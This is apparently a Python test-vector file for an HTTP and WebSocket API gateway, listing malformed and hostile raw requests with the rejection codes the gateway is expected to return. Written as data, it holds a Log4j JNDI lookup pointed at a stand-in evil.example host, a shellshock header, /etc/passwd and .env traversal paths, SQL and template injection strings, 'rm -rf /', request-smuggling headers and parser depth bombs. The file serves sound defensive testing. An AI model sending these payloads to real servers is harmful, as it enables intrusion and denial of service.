"""More raw requests: bodies, names, identities, handshakes, and what never ends.

``LATE`` are those that lack something: each has its answer at its declared deadline,
and none before.
"""

from __future__ import annotations

from tests.http.vectors import (
    AUTH,
    CHUNKED,
    GET,
    HOST,
    POST,
    Vector,
    bad,
    closed,
    get,
    kept,
    post,
    target,
)

SHAKE = (
    b"Upgrade: websocket",
    b"Connection: Upgrade",
    b"Sec-WebSocket-Version: 13",
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)
HEAD_SECONDS, BODY_SECONDS = 10.0, 30.0


def with_length(body: bytes) -> bytes:
    """Return a POST of *body* with its length."""
    return post(b"Content-Length: %d" % len(body), body=body)


def with_chunks(body: bytes) -> bytes:
    """Return a POST of *body* in two chunks."""
    half = len(body) // 2
    pieces = [piece for piece in (body[:half], body[half:]) if piece]
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces)
    return CHUNKED + chunks + b"0\r\n\r\n"


def both(name: str, body: bytes, status: int, code: str) -> list[Vector]:
    """Return *body* sent with its length, and in chunks."""
    return [
        kept(f"body: {name}", with_length(body), status, code),
        kept(f"chunked body: {name}", with_chunks(body), status, code),
    ]


def said(member: bytes) -> bytes:
    """Return a body that would be right but for *member*."""
    return b'{"messages":[{"role":"user","content":"x"}],' + member + b"}"


_JSON: list[tuple[str, bytes]] = [
    ("depth bomb of lists", b"[" * 20_000),
    ("closed depth bomb", b"[" * 5_000 + b"]" * 5_000),
    ("depth bomb of objects", b'{"a":' * 5_000),
    ("NaN", said(b'"temperature":NaN')),
    ("Infinity", said(b'"temperature":Infinity')),
    ("minus Infinity", said(b'"temperature":-Infinity')),
    ("UTF-16", said(b'"n":1').decode().encode("utf-16")),
    ("UTF-32", said(b'"n":1').decode().encode("utf-32")),
    ("not UTF-8", said(b'"user":"\xff"')),
    ("overlong UTF-8", said(b'"user":"\xc0\xaf"')),
    ("surrogate in UTF-8", said(b'"user":"\xed\xa0\x80"')),
    ("lone surrogate", said(rb'"user":"\ud800"')),
    ("bare control byte", said(b'"user":"\x01"')),
    ("a comma too many", said(b'"n":1,')),
    ("a comment", b"/* */" + said(b'"n":1')),
    ("single quotes", b"{'messages':[]}"),
    ("two documents", said(b'"n":1') * 2),
    ("NUL behind", said(b'"n":1') + b"\0"),
    ("unfinished", said(b'"n":1')[:-1]),
    ("a form", b"messages=x&model=y"),
    ("XML", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]><x>&e;</x>'),
    ("gzip", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x03\x00\x00\x00"),
    ("a request", GET + b"\r\n"),
    ("a number", b"1"),
    ("a text", b'"messages"'),
    ("a list", b"[]"),
    ("null", b"null"),
]

_VALUES: list[tuple[str, bytes]] = [
    ("depth bomb in a message", b'{"messages":' + b"[" * 5_000 + b"]" * 5_000 + b"}"),
    ("messages are null", b'{"messages":null}'),
    ("messages are a text", b'{"messages":"x"}'),
    ("messages are an object", b'{"messages":{"0":{"role":"user"}}}'),
    ("no message", b'{"messages":[]}'),
    ("a message is a list", b'{"messages":[[]]}'),
    ("a role that is none", b'{"messages":[{"role":"root","content":"x"}]}'),
    ("a role that is a number", b'{"messages":[{"role":1,"content":"x"}]}'),
    ("content is a number", b'{"messages":[{"role":"user","content":1}]}'),
    ("two answers", said(b'"n":2')),
    ("n of 5,000 digits", said(b'"n":' + b"9" * 5_000)),
    ("n beyond 64 bits", said(b'"n":18446744073709551616')),
    ("1e999", said(b'"temperature":1e999')),
    ("max_tokens below zero", said(b'"max_tokens":-1')),
    ("stream is a text", said(b'"stream":"yes"')),
    ("stream is one", said(b'"stream":1')),
    ("a user of 100 KB", said(b'"user":"' + b"u" * 100_000 + b'"')),
    ("user is an object", said(b'"user":{"__proto__":1}')),
    ("model is a list", said(b'"model":["moltbot"]')),
    ("tools are a text", said(b'"tools":"rm -rf /"')),
    ("a tool named with a path", said(
        b'"tools":[{"type":"function","function":{"name":"../../bin/sh"}}]')),
    ("a tool's name of 10 KB", said(
        b'"tools":[{"type":"function","function":{"name":"' + b"t" * 10_000 + b'"}}]')),
    ("tool_choice names no tool", said(
        b'"tool_choice":{"type":"function","function":{"name":"x"}}')),
]  # fmt: skip

BODIES: list[Vector] = [
    *(v for name, body in _JSON for v in both(name, body, 400, "invalid_json")),
    *(v for name, body in _VALUES for v in both(name, body, 400, "invalid_value")),
]

LINES = [
    bad("no target", b"GET  HTTP/1.1\r\n" + HOST + b"\r\n"),
    bad("a fourth word", b"GET /v1/models HTTP/1.1 x\r\n" + HOST + b"\r\n"),
    bad("version without number", get(b"X: y").replace(b"HTTP/1.1", b"HTTP/")),
    bad("HTTP/1.10", get(b"X: y").replace(b"HTTP/1.1", b"HTTP/1.10")),
    bad("HTTP/11", get(b"X: y").replace(b"HTTP/1.1", b"HTTP/11")),
    bad("HTTP/1", get(b"X: y").replace(b"HTTP/1.1", b"HTTP/1")),
    bad("HTTP/+1.1", get(b"X: y").replace(b"HTTP/1.1", b"HTTP/+1.1")),
    bad("HTTP/-1.1", get(b"X: y").replace(b"HTTP/1.1", b"HTTP/-1.1")),
    bad("HTTPS/1.1", get(b"X: y").replace(b"HTTP/1.1", b"HTTPS/1.1")),
    bad("RTSP/1.0", get(b"X: y").replace(b"HTTP/1.1", b"RTSP/1.0")),
    bad("ICY/1.1", get(b"X: y").replace(b"HTTP/1.1", b"ICY/1.1")),
    bad("NUL before the method", b"\0" + get(b"X: y")),
    bad("NUL in the method", target(b"/v1/models", b"GE\0T")),
    bad("NUL in the target", target(b"/v1/\0models")),
    bad("8-bit method", target(b"/v1/models", b"G\xc9T")),
    bad("no method", b" /v1/models HTTP/1.1\r\n" + HOST + b"\r\n"),
    bad("backslashes", target(b"\\v1\\models")),
    bad("a query alone", target(b"?x")),
    bad("no slash", target(b"v1/models")),
    bad("file URL", target(b"file:///etc/passwd")),
    bad("absolute form, other port", target(b"http://127.0.0.1:22/")),
    bad("SSH", b"SSH-2.0-OpenSSH_9.9\r\n"),
    bad("SMTP", b"EHLO gateway.test\r\n"),
    bad("Redis", b"*1\r\n$4\r\nPING\r\n"),
    bad("memcached", b"stats\r\n"),
    bad("JSON line", b'{"id":1,"method":"connect"}\r\n'),
    bad("SIP", b"OPTIONS sip:a SIP/2.0\r\n\r\n"),
    bad("PROXY protocol", b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + get(b"X: y")),
    kept("DELETE", target(b"/v1/models", b"DELETE"), 405, "method_not_allowed"),
    kept("PATCH", target(b"/v1/models", b"PATCH"), 405, "method_not_allowed"),
    kept("PROPFIND", target(b"/v1/models", b"PROPFIND"), 405, "method_not_allowed"),
    kept("OPTIONS", target(b"/v1/models", b"OPTIONS"), 405, "method_not_allowed"),
    kept("a long method", target(b"/v1/models", b"G" * 9_000), 405,
         "method_not_allowed"),
]  # fmt: skip

PATHS = [
    *(
        kept(f"path {path.decode()}", target(path), 404, "not_found")
        for path in (
            b"/./v1/models",
            b"/v1/./models",
            b"/v1/models/.//",
            b"/v1/models%3fx",
            b"/v1/models%23",
            b"/%76%31/models",
            b"/v1/models\\",
            b"/.git/config",
            b"/.env",
            b"/v1/models/a%2f%2fb",
            b"/v1/models/%C0%AF",
            b"/v1/models/%ED%A0%80",
            b"/v1/models/%E2%80%AE",
            b"/v1/models/%EF%BB%BF",
            b"/v1/models/%7f",
            b"/v1/models/%1b[31m",
            b"/v1/models/%E2%80%A8",
            b"/v1/chat/completions/x",
            b"/v1/chat",
            b"/metrics/../v1/models",
            b"/openapi.json/",
        )
    ),
    *(
        kept(f"model {name.decode()}", target(b"/v1/models/" + name), 404,
             "model_not_found")
        for name in (
            b"..",
            b"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            b"__proto__",
            b"constructor",
            b"%27%20OR%201=1--",
            b"$(id)",
            b"%7B%7B7*7%7D%7D",
            b"%25s%25n",
            b"%F0%9F%98%80",
            b"moltbot%20",
            b"moltbot:",
            b"moltbot:..",
            b"moltbot:nobody",
            b"-1",
            b"%u0041",
            b"%",
        )
    ),
    kept("DEL in the target", target(b"/v1/\x7fmodels"), 404, "not_found"),
    kept("a model of 10 KB", target(b"/v1/models/" + b"m" * 10_000), 404,
         "model_not_found"),
    kept("a query of 10 KB", target(b"/v1/models?" + b"q" * 10_000), 200),
    kept("10,000 parameters", target(b"/v1/models?" + b"&" * 10_000), 200),
    kept("a token in the query", target(b"/v1/models?token=x").replace(AUTH, b""),
         401, "invalid_api_key"),
]  # fmt: skip

FRAMES = [
    bad("tab before the colon", post(b"Transfer-Encoding\t: chunked")),
    bad("chunked with a parameter", post(b"Transfer-Encoding: chunked;q=1")),
    bad("identity, chunked", post(b"Transfer-Encoding: identity, chunked")),
    bad("chunked, identity", post(b"Transfer-Encoding: chunked, identity")),
    bad("chunked and a comma", post(b"Transfer-Encoding: chunked,")),
    bad("comma and chunked", post(b"Transfer-Encoding: ,chunked")),
    bad("deflate", post(b"Transfer-Encoding: deflate")),
    bad("NUL behind chunked", post(b"Transfer-Encoding: chunked\0")),
    bad("two spellings of a coding", post(b"transfer-encoding: chunked",
                                          b"TRANSFER-ENCODING: chunked")),
    bad("two spellings of a length", post(b"content-length: 2", b"CONTENT-LENGTH: 2",
                                          body=b"{}")),
    bad("length in quotes", post(b'Content-Length: "2"', body=b"{}")),
    bad("length 1e1", post(b"Content-Length: 1e1", body=b"{}")),
    bad("length with a semicolon", post(b"Content-Length: 2;", body=b"{}")),
    bad("length in Arabic digits", post("Content-Length: ٢".encode(), body=b"{}")),
    bad("length in superscript", post(b"Content-Length: \xb2", body=b"{}")),
    bad("length with NUL", post(b"Content-Length: 2\0", body=b"{}")),
    bad("folded length", post(b"Content-Length:\r\n 2", body=b"{}")),
    bad("GET, length and chunked", get(b"Content-Length: 5\r\nTransfer-Encoding:"
                                       b" chunked") + b"0\r\n\r\n"),
    kept("underscore in the length's name", post(b"Content_Length: 50"), 400,
         "invalid_json"),
    kept("underscore in the coding's name", post(b"Transfer_Encoding: chunked"), 400,
         "invalid_json"),
    kept("tab before the length", post(b"Content-Length:\t2", body=b"{}"), 400,
         "missing_field"),
    kept("blank behind the length", post(b"Content-Length: 2 ", body=b"{}"), 400,
         "missing_field"),
    kept("no blank before the coding", post(b"Transfer-Encoding:chunked",
                                            body=b"2\r\n{}\r\n0\r\n\r\n"), 400,
         "missing_field"),
    kept("chunks of one byte", CHUNKED + b"1\r\n{\r\n1\r\n}\r\n0\r\n\r\n", 400,
         "missing_field"),
    kept("chunk size in capitals", CHUNKED + b"A\r\n{        }\r\n0\r\n\r\n", 400,
         "missing_field"),
    kept("last chunk of many zeros", CHUNKED + b"2\r\n{}\r\n00000000\r\n\r\n", 400,
         "missing_field"),
    bad("chunk size in words", CHUNKED + b"two\r\n{}\r\n0\r\n\r\n"),
    bad("chunk size with a comma", CHUNKED + b"1,2\r\n{}\r\n0\r\n\r\n"),
    bad("NUL before the chunk size", CHUNKED + b"\x002\r\n{}\r\n0\r\n\r\n"),
    bad("chunk size after a tab", CHUNKED + b"\t2\r\n{}\r\n0\r\n\r\n"),
    bad("CR alone after the size", CHUNKED + b"2\r{}\r\n0\r\n\r\n"),
    bad("chunk longer than it says", CHUNKED + b"2\r\n{}}\r\n0\r\n\r\n"),
    bad("8-bit chunk size", CHUNKED + b"\xb2\r\n{}\r\n0\r\n\r\n"),
]  # fmt: skip

NAMES = [
    *(
        bad(f"header name {name!r}", get(name + b": y"))
        for name in (b"X\0", b"X(", b'"X"', b"X/Y", b"X@Y", b"X\x7f", b"X\t", b"[X]")
    ),
    bad("blank in a line of its own", get(b" ")),
    bad("colon alone", get(b":")),
    bad("Host after a blank", get(b"X: y").replace(b"Host:", b"Host :")),
    bad("Host with a comma list", get(b"X: y").replace(b"gateway.test", b"a, b")),
    bad("Host with a NUL", get(b"X: y").replace(b"gateway.test", b"a\0b")),
    bad("Host with a fragment", get(b"X: y").replace(b"gateway.test", b"a#b")),
    bad("Host with two ports", get(b"X: y").replace(b"gateway.test", b"a:1:2")),
    bad("Host with a scheme", get(b"X: y").replace(b"gateway.test", b"http://a")),
    *(
        kept(f"rebound Host {host.decode()}",
             get(b"X: y").replace(b"gateway.test", host), 403, "host_not_allowed")
        for host in (
            b"evil.example",
            b"evil.example:18789",
            b"gateway.test.evil.example",
            b"127.0.0.1.nip.io",
            b"localhost.evil.example",
            b"xn--localhost-x.example",
            b"evil-test",
            b"2130706433",
            b"0x7f.1",
        )
    ),
    kept("Host in capitals", get(b"X: y").replace(b"gateway.test", b"GATEWAY.TEST"),
         200),
    kept("dot behind the Host", get(b"X: y").replace(b"way.test", b"way.test."), 200),
    kept("Host without a blank", get(b"X: y").replace(b"Host: ", b"hOsT:"), 200),
    kept("an empty value", get(b"X-A:"), 200),
    kept("a value of blanks", get(b"X-A:      "), 200),
    kept("a name of 10 KB", get(b"X" * 10_000 + b": y"), 200),
    kept("cookies of 10 KB", get(b"Cookie: a=" + b"b" * 10_000), 200),
    kept("100 times the same name", get(b"\r\n".join([b"X: y"] * 100)), 200),
    kept("method override", get(b"X-HTTP-Method-Override: DELETE"), 200),
    kept("URL override", get(b"X-Original-URL: /v1/chat/completions"), 200),
    kept("rewritten URL", get(b"X-Rewrite-URL: /admin"), 200),
    kept("forwarded host", get(b"X-Forwarded-Host: evil.example"), 200),
    kept("forwarded nonsense", get(b"X-Forwarded-For: , ,%%,[::"), 200),
    kept("a range", get(b"Range: bytes=0-,1-,2-,3-"), 200),
    kept("a huge range", get(b"Range: bytes=0-18446744073709551615"), 200),
    kept("a proxy's secret", get(b"Proxy-Authorization: Basic eDp5"), 200),
    kept("trailers announced", get(b"Trailer: Content-Length\r\nTE: trailers"), 200),
    kept("request id with a line", get(b"X-Request-Id: a%0d%0aX-B: c"), 200),
    kept("request id of 10 KB", get(b"X-Request-Id: " + b"r" * 10_000), 200),
    kept("two request ids", get(b"X-Request-Id: a\r\nX-Request-Id: b"), 200),
    kept("a Log4j lookup", get(b"User-Agent: ${jndi:ldap://evil.example/a}"), 200),
    kept("a shellshock", get(b"User-Agent: () { :; }; /bin/true"), 200),
]  # fmt: skip

IDENTITIES = [
    *(
        kept(f"secret: {name}", get(b"X: y").replace(AUTH, line), 401,
             "invalid_api_key")
        for name, line in (
            ("none", b""),
            ("empty", b"Authorization:\r\n"),
            ("scheme alone", b"Authorization: Bearer\r\n"),
            ("scheme and a blank", b"Authorization: Bearer \r\n"),
            ("undefined", b"Authorization: Bearer undefined\r\n"),
            ("null", b"Authorization: Bearer null\r\n"),
            ("Basic", b"Authorization: Basic eDp5\r\n"),
            ("without a scheme", AUTH.replace(b"Bearer ", b"")),
            ("half", AUTH.replace(b"-staple", b"")),
            ("and more", AUTH.replace(b"-staple", b"-staplex")),
            ("in capitals", AUTH.upper()),
            ("twice, one wrong", AUTH + b"Authorization: Bearer x\r\n"),
            ("twice, the last right", b"Authorization: Bearer x\r\n" + AUTH),
            ("as a cookie", AUTH.replace(b"Authorization: Bearer ", b"Cookie: token=")),
            ("as a proxy's", AUTH.replace(b"Authorization", b"Proxy-Authorization")),
            ("as x-api-key", AUTH.replace(b"Authorization: Bearer", b"X-Api-Key:")),
            ("of 10 KB", b"Authorization: Bearer " + b"x" * 10_000 + b"\r\n"),
            ("a pattern", b"Authorization: Bearer .*\r\n"),
            ("SQL", b"Authorization: Bearer ' OR '1'='1\r\n"),
        )
    ),
    closed("a body without a secret",
           with_length(b"x" * 100).replace(AUTH, b""), 401, "invalid_api_key"),
    closed("chunks without a secret",
           with_chunks(b"x" * 100).replace(AUTH, b""), 401, "invalid_api_key"),
]  # fmt: skip

SHAKES = [
    *(
        kept(f"handshake: {name}", get(b"\r\n".join(lines)), status, code)
        for name, lines, status, code in (
            ("foreign page", (*SHAKE, b"Origin: https://evil.example"), 403,
             "origin_not_allowed"),
            ("null origin", (*SHAKE, b"Origin: null"), 403, "origin_not_allowed"),
            ("empty origin", (*SHAKE, b"Origin:"), 403, "origin_not_allowed"),
            ("file origin", (*SHAKE, b"Origin: file://"), 403, "origin_not_allowed"),
            ("origin with a user",
             (*SHAKE, b"Origin: http://gateway.test@evil.example"), 403,
             "origin_not_allowed"),
            ("origin with our name before",
             (*SHAKE, b"Origin: http://gateway.test.evil.example"), 403,
             "origin_not_allowed"),
            ("another port of ours", (*SHAKE, b"Origin: http://gateway.test:8080"), 403,
             "origin_not_allowed"),
            ("two origins",
             (*SHAKE, b"Origin: http://gateway.test", b"Origin: https://evil.example"),
             403, "origin_not_allowed"),
            ("a list of origins",
             (*SHAKE, b"Origin: http://gateway.test, https://evil.example"), 403,
             "origin_not_allowed"),
            ("version 8", (*SHAKE[:2], b"Sec-WebSocket-Version: 8", SHAKE[3]), 426,
             "upgrade_required"),
            ("no version", (*SHAKE[:2], SHAKE[3]), 426, "upgrade_required"),
            ("two versions", (*SHAKE, b"Sec-WebSocket-Version: 8"), 426,
             "upgrade_required"),
        )
    ),
    *(
        bad(f"handshake: {name}", get(b"\r\n".join(lines)))
        for name, lines in (
            ("no key", SHAKE[:3]),
            ("two keys", (*SHAKE, SHAKE[3])),
            ("short key", (*SHAKE[:3], b"Sec-WebSocket-Key: eA==")),
            ("key that is no base64", (*SHAKE[:3], b"Sec-WebSocket-Key: !!!!")),
            ("no Connection", (SHAKE[0], *SHAKE[2:])),
            ("a body", (*SHAKE, b"Content-Length: 5")),
            ("chunks", (*SHAKE, b"Transfer-Encoding: chunked")),
        )
    ),
    bad("handshake: HTTP/1.0",
        get(b"\r\n".join(SHAKE)).replace(b"HTTP/1.1", b"HTTP/1.0")),
    kept("handshake: rebound",
         get(b"\r\n".join(SHAKE)).replace(b"gateway.test", b"evil.example"), 403,
         "host_not_allowed"),
    kept("handshake: POST", post(*SHAKE), 405, "method_not_allowed"),
]  # fmt: skip

MORE = [*BODIES, *LINES, *PATHS, *FRAMES, *NAMES, *IDENTITIES, *SHAKES]

LATE: list[tuple[Vector, float]] = [
    (closed(name, raw, 408, "request_timeout"), seconds)
    for name, raw, seconds in (
        ("nothing but an empty line", b"\r\n", HEAD_SECONDS),
        ("half a method", b"GE", HEAD_SECONDS),
        ("a head without its end", GET, HEAD_SECONDS),
        ("half a header", GET + b"X-Header", HEAD_SECONDS),
        ("a CR at the end", GET + b"\r", HEAD_SECONDS),
        ("SOCKS 5", b"\x05\x01\x00", HEAD_SECONDS),
        ("TLS hello without a line", b"\x16\x03\x01\x02\x00\x01", HEAD_SECONDS),
        ("no body", post(b"Content-Length: 5"), BODY_SECONDS),
        ("half a body", post(b"Content-Length: 5", body=b"{"), BODY_SECONDS),
        ("no chunk", CHUNKED, BODY_SECONDS),
        ("half a chunk size", CHUNKED + b"5", BODY_SECONDS),
        ("half a chunk", CHUNKED + b"5\r\n{", BODY_SECONDS),
        ("a chunk without the last one", CHUNKED + b"2\r\n{}\r\n", BODY_SECONDS),
        ("half the last chunk", CHUNKED + b"2\r\n{}\r\n0\r\n", BODY_SECONDS),
        ("half a trailer", CHUNKED + b"2\r\n{}\r\n0\r\nX: y", BODY_SECONDS),
        ("a chunk of 4 GiB", CHUNKED + b"ffffffff\r\n{}", BODY_SECONDS),
        ("half a body that is expected",
         POST + b"Content-Length: 50\r\n\r\n{}", BODY_SECONDS),
    )
]  # fmt: skip
"""Each with the seconds after which it is answered."""
